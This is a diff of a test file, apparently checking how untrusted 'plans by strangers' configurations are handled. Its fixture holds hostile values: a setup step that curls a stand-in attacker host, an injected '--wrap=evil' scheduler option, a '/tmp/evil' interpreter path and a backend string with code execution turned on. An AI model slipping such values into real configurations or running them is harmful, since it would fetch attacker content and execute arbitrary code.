@@ -265,6 +265,7 @@ describe("plans by strangers", () => {
         [
           "title: programs",
           "training: { swift: { engine: trl, trl: { python: /tmp/evil } } }",
+          "experts: { one: { role: task, train: { like: swift, run: { data: x.jsonl } } } }",
           "executor: { kind: slurm, options: [--wrap=evil], setup: curl evil.example }",
         ].join("\n"),
       ).replace("tasks: [quiz]", `tasks: [quiz], backend: "serve:${backend} {model} {port}", allow_code: true`);
